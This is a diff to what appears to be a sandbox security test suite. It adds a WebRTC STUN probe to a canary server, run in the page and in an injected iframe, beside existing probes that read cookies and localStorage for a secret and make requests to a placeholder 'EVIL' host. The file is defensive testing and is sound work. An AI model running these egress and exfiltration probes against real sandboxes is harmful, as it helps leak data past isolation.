@@ -115,6 +115,15 @@ await new Promise((done) => { inner.onmessage = inner.onerror = done })`,
   python("pythonXhr", `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "EVIL/pythonXhr", False)\nx.send()`),
 ];
 
+/** Asks a STUN server at the canary who one is. */
+const peer = (
+  realm: string,
+) => `const peer = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: "stun:" + STUN }] });
+peer.createDataChannel("x");
+await peer.setLocalDescription(await peer.createOffer());
+await new Promise((on) => setTimeout(on, 1_500));
+peer.close()`;
+
 const inWindow: Attack[] = [
   window("localStorage", `if (localStorage.getItem("secret")) return "STOLEN"`),
   window("cookie", `if (document.cookie.includes("secret")) return "STOLEN"`),
@@ -151,6 +160,8 @@ const i = document.createElement("iframe"); i.name = "there"; document.body.appe
     "media",
     `const v = document.createElement("video"); v.src = EVIL + "/media"; document.body.append(v); v.load()`,
   ),
+  window("rtc", peer("self")),
+  window("rtcInner", `const i = document.createElement("iframe"); document.body.append(i); ${peer("i.contentWindow")}`),
   window("selfNavigation", `location.href = EVIL + "/selfNavigation"`),
 ];
 
